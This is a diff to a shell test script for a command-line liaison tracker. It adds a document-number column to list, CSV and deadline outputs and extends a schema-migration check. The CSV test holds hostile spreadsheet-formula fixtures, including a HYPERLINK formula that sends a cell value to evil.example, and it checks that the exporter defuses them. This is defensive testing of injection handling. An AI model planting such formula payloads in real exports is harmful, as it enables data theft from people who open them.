@@ -39,7 +39,7 @@ check_eq "and leaves it alone" "$(sha256sum <"$T/db/sub/liaisond.db")" "$sum"
 # list: a table with a header, the columns aligned on the widest value.
 "${CTL[@]}" list >"$T/list.txt"
 check_eq "list: the header and 17 rows" "$(wc -l <"$T/list.txt")" 18
-check "the header names the columns" grep -qE '^ID +DATE +KIND +DIRECTION +SOURCE +REF +SUBJECT$' "$T/list.txt"
+check "the header names the columns" grep -qE '^ID +DATE +KIND +DIRECTION +SOURCE +REF +DOCNO +SUBJECT$' "$T/list.txt"
 python3 - "$T/list.txt" <<'PY'
 import sys
 rows = open(sys.argv[1], encoding="utf-8").read().splitlines()
@@ -61,13 +61,13 @@ import csv, sys
 raw = open(sys.argv[1], "rb").read()
 assert raw.count(b"\r\n") >= 18 and b"\n" not in raw.replace(b"\r\n", b""), "CRLF line ends"
 rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
-assert rows[0] == "id,message_id,date,received,kind,direction,from,source,ref,subject".split(","), rows[0]
-assert len(rows) == 18 and all(len(r) == 10 for r in rows), len(rows)
+assert rows[0] == "id,message_id,date,received,kind,direction,from,source,ref,docno,subject".split(","), rows[0]
+assert len(rows) == 18 and all(len(r) == 11 for r in rows), len(rows)
 for r in rows[1:]:
     for cell in r:
         s = cell.lstrip(" ")
         assert not s or s[0] not in "=+-@\t\r", ("formula", cell)
-subjects = {r[1]: r[9] for r in rows[1:]}
+subjects = {r[1]: r[10] for r in rows[1:]}
 want = {"<hostile1@evil.example>": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "<hostile2@evil.example>": "'+SUM(1,2)", "<hostile3@evil.example>": "'@cmd",
         "<hostile4@evil.example>": "'-2+3"}
@@ -126,18 +126,26 @@ check_eq "search with nothing to find exits 2" "$?" 2
 
 # A store from before the index (schema 1): the first program to open it indexes what is filed.
 cp "$T/db/sub/liaisond.db" "$T/old.db"
+newest=$(sqlite3 "$T/db/sub/liaisond.db" 'PRAGMA user_version')
 sqlite3 "$T/old.db" "DROP TABLE document_fts; DROP VIEW document_search; DROP TABLE document_text;
 	DROP INDEX outbox_kind_created; ALTER TABLE outbox DROP COLUMN cancelled; DROP TABLE daemon_state;
-	DROP TABLE reminder; DROP TABLE digest_mark; PRAGMA user_version = 1"
+	DROP TABLE reminder; DROP TABLE digest_mark; DROP TABLE delivery; DROP TABLE smtp_server;
+	DROP INDEX document_docno; ALTER TABLE document DROP COLUMN docno; ALTER TABLE document DROP COLUMN refs;
+	DROP TABLE docno_counter; DROP INDEX liaison_ref_key; ALTER TABLE liaison DROP COLUMN ref_key;
+	DROP INDEX obligation_sdo; DROP INDEX obligation_liaison; DROP INDEX sdo_contact_email;
+	DROP TABLE doc_body; DROP TABLE answer;
+	PRAGMA user_version = 1"
 write_conf "$T/old.conf" "$T/old.db" "$T/Maildir" "$T/spool"
 check_eq "an old store: search migrates and finds a body's word" \
 	"$("$LIAISONCTL" -c "$T/old.conf" search --json conjunction | wc -l)" 1
-check_eq "its schema is now the newest (a fresh store's)" "$(sqlite3 "$T/old.db" 'PRAGMA user_version')" \
-	"$(sqlite3 "$T/db/sub/liaisond.db" 'PRAGMA user_version')"
+check_eq "its schema is now the newest" "$(sqlite3 "$T/old.db" 'PRAGMA user_version')" "$newest"
+check_eq "its incoming statements and roadmap inputs are numbered in filing order" \
+	"$(sqlite3 "$T/old.db" "SELECT group_concat(docno, ' ') FROM (SELECT docno FROM document WHERE docno IS NOT NULL ORDER BY id LIMIT 2)")" \
+	"JCA-MV-Doc-001 JCA-MV-Doc-002"
 
 # deadlines: a table too.
 "${CTL[@]}" deadlines --now 2026-02-01 >"$T/dl.txt"
-check "deadlines: a table with a header" grep -qE '^DEADLINE +STATE +REF +ROLE +SDO +TITLE$' "$T/dl.txt"
+check "deadlines: a table with a header" grep -qE '^DEADLINE +STATE +REF +ROLE +SDO +ANSWERED BY +TITLE$' "$T/dl.txt"
 check_eq "deadlines: as many rows as --json objects" "$(($(wc -l <"$T/dl.txt") - 1))" \
 	"$("${CTL[@]}" deadlines --now 2026-02-01 --json | wc -l)"
 finish
